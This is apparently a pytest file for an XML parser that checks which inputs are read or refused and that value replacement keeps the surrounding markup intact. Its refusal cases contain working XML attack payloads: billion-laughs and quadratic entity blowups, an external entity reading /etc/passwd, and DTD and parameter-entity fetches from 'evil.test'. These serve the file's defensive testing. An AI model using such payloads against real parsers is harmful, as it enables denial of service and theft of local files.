"""XML texts: what is read, what is refused within a second, and what replacing leaves alone."""

from __future__ import annotations

import time
from dataclasses import dataclass
from operator import attrgetter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from arazzo import xml_values, xpath
from arazzo.xml_values import MOST_NODES, XmlRefused

LAUGHS = '<!ENTITY l0 "lol">' + "".join(
    '<!ENTITY l{} "{}">'.format(number, f"&l{number - 1};" * 10) for number in range(1, 10)
)
ATTRIBUTES = " ".join(f"b{number}='1'" for number in range(40_000))
QUADRATIC = f'<!DOCTYPE a [<!ENTITY b "{"x" * 50_000}">]><a>{"&b;" * 50_000}</a>'


@dataclass(frozen=True)
class Refused:
    """A text, and why it is refused."""

    id: str
    text: str
    reason: str
    said: str


REFUSED = [
    # entities, which only a DOCTYPE can declare
    Refused("laughs", f"<!DOCTYPE a [{LAUGHS}]><a>&l9;</a>", "xml-doctype", "a DOCTYPE"),
    Refused("quadratic", QUADRATIC, "xml-doctype", "a DOCTYPE"),
    Refused(
        "external entity",
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
        "xml-doctype",
        "a DOCTYPE",
    ),
    Refused(
        "external subset",
        '<!-- <a/> -->\n<!DOCTYPE a SYSTEM "http://evil.test/a.dtd"><a/>',
        "xml-doctype",
        "a DOCTYPE",
    ),
    Refused(
        "parameter entity",
        '\ufeff<?x?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.test/">%p;]><a/>',
        "xml-doctype",
        "a DOCTYPE",
    ),
    Refused("doctype far behind", f"{' ' * 900_000}<!DOCTYPE a><a/>", "xml-doctype", "a DOCTYPE"),
    Refused("entity of nowhere", "<a>&nothing;</a>", "no-xml", "not well-formed"),
    # size
    Refused("too long", f"<a>{'x' * 1_000_000}</a>", "xml-too-large", "1,000,000 characters"),
    Refused("too deep", "<a>" * 100_000, "xml-too-deep", "200 deep"),
    Refused("too many elements", f"<a>{'<b/>' * 100_000}</a>", "xml-too-large", "30,000"),
    Refused(
        "too many attributes",
        f"<a {ATTRIBUTES}/>",
        "xml-too-large",
        "30,000",
    ),
    Refused("too many comments", f"<a>{'<!---->' * 100_000}</a>", "xml-too-large", "30,000"),
    # no XML
    Refused("empty", "", "no-xml", "does not begin"),
    Refused("json", '{"a": 1}', "no-xml", "does not begin"),
    Refused("only marks", "<" * 100_000, "no-xml", "does not begin"),
    Refused("open", "<a>", "no-xml", "not well-formed"),
    Refused("two roots", "<a/><b/>", "no-xml", "not well-formed"),
    Refused("no root", "<!-- a -->", "no-xml", "not well-formed"),
    Refused("half a character", "<a>\ud800</a>", "no-xml", "half of a character"),
    Refused("a control character", "<a>\x01</a>", "no-xml", "not well-formed"),
    Refused("an undeclared prefix", "<p:a/>", "no-xml", "not well-formed"),
    Refused("an open comment", "<!--" + "-" * 900_000, "no-xml", "not well-formed"),
    Refused("instructions without end", "<?" * 400_000, "no-xml", "not well-formed"),
    Refused("an attribute without end", '<a b="' + '"' * 900_000, "no-xml", "not well-formed"),
]


@pytest.mark.parametrize("case", REFUSED, ids=attrgetter("id"))
def test_what_is_refused(case: Refused) -> None:
    """No entity is ever expanded or fetched, and nothing costs more than its length."""
    begin = time.process_time()
    with pytest.raises(XmlRefused, match=case.said) as caught:
        xml_values.parse(case.text)
    assert caught.value.reason == case.reason
    assert time.process_time() - begin < 1


@pytest.mark.parametrize(
    ("text", "tag", "attributes", "inside"),
    [
        ("<a/>", "a", {}, ""),
        (" \n<a/> ", "a", {}, ""),
        ('<?xml version="1.0" encoding="utf-16"?><a>é&lt;&#65;</a>', "a", {}, "é<A"),
        ('<a xmlns="urn:a" b="1"/>', "{urn:a}a", {"b": "1"}, ""),
        ('<p:a xmlns:p="urn:a" p:b="1">x<c>y</c>z</p:a>', "{urn:a}a", {"{urn:a}b": "1"}, "xyz"),
        ("<a><![CDATA[<!DOCTYPE b>]]></a>", "a", {}, "<!DOCTYPE b>"),
        ("<!-- c --><a>x<!-- c -->y<?p i?>z</a>", "a", {}, "xyz"),
    ],
)
def test_what_is_read(text: str, tag: str, attributes: dict[str, str], inside: str) -> None:
    """Namespaces, references, CDATA; the text was decoded, so a declared encoding is void."""
    root = xml_values.parse(text).root
    assert (root.tag, root.attrib) == (tag, attributes)
    assert xpath.select(xpath.compile("string(/)"), xml_values.parse(text)) == [inside]


def test_the_largest_document_is_read_at_once() -> None:
    """What is below the bounds takes a fraction of a second."""
    begin = time.process_time()
    document = xml_values.parse(f"<a>{'<b>x</b>' * (MOST_NODES - 1)}</a>")
    assert document.nodes == MOST_NODES
    assert time.process_time() - begin < 1


def test_namespaces_of_a_document() -> None:
    """The first declaration of a prefix counts, and the default one of the outermost element."""
    text = '<a xmlns="urn:a" xmlns:p="urn:p"><b xmlns="urn:b" xmlns:p="urn:q" xmlns:r="urn:r"/></a>'
    assert xml_values.parse(text).namespaces == {"": "urn:a", "p": "urn:p", "r": "urn:r"}


def test_the_text_of_an_element() -> None:
    """Its text, or its XML as it stands where it has elements inside."""
    document = xml_values.parse("<a><b>x&amp;<!--c-->y</b><c  d='1'><e/></c></a>")
    assert document.text_of(document.root[0]) == "x&y"
    assert document.text_of(document.root[1]) == "<c  d='1'><e/></c>"


@pytest.mark.parametrize(
    ("text", "child", "attribute", "value", "result"),
    [
        ("<a><b>old</b></a>", 0, None, "new", "<a><b>new</b></a>"),
        ("<a><b/><c/></a>", 0, None, "<&>", "<a><b>&lt;&amp;&gt;</b><c/></a>"),
        ("<p:a xmlns:p='u'><p:b  x='>' /></p:a>", 0, None, "n",
         "<p:a xmlns:p='u'><p:b  x='>' >n</p:b></p:a>"),
        ("<a>é<b></b>\n<!-- c --></a>", 0, None, "é", "<a>é<b>é</b>\n<!-- c --></a>"),
        ("<a><b><c/>t</b></a>", 0, None, "", "<a><b></b></a>"),
        ("<a><b c = 'x' d='y'/></a>", 0, "d", 'q"\n', "<a><b c = 'x' d='q\"&#10;'/></a>"),
        ("<a><b xmlns:p='u' p:c='x'/></a>", 0, "{u}c", "y", "<a><b xmlns:p='u' p:c=\"y\"/></a>"),
        ("<a>x</a>", None, None, "y", "<a>y</a>"),
    ],
)  # fmt: skip
def test_replacing_leaves_everything_else(
    text: str, child: int | None, attribute: str | None, value: str, result: str
) -> None:
    """Prefixes, comments, spaces and quotes elsewhere stay; the value can't become markup."""
    document = xml_values.parse(text)
    element = document.root if child is None else document.root[child]
    assert xml_values.replaced(document, [(element, attribute)], value) == result


def test_several_places_at_once() -> None:
    """Each place is set; one that lies within another is gone with it."""
    document = xml_values.parse("<a><b>1</b><b>2<c/></b></a>")
    first, second = document.root
    places = [(second[0], None), (first, None), (second, None), (first, None)]
    assert xml_values.replaced(document, list(places), "x") == "<a><b>x</b><b>x</b></a>"


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="<>/ab:='\"&;![]-?xmlns \ud800DOCTYPE", max_size=40))
def test_only_our_own_error(text: str) -> None:
    """Whatever the text, it is read or refused."""
    try:
        document = xml_values.parse(text)
    except XmlRefused:
        return
    assert document.text_of(document.root) is not None


@settings(max_examples=100, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=20))
def test_a_value_comes_back_as_it_was(value: str) -> None:
    """What is injected is read again as the same text, in an element as in an attribute."""
    document = xml_values.parse("<a b='x'><c/></a>")
    places = [(document.root[0], None), (document.root, "b")]
    again = xml_values.parse(xml_values.replaced(document, list(places), value)).root
    assert (again[0].text or "", again.attrib["b"]) == (value, value)
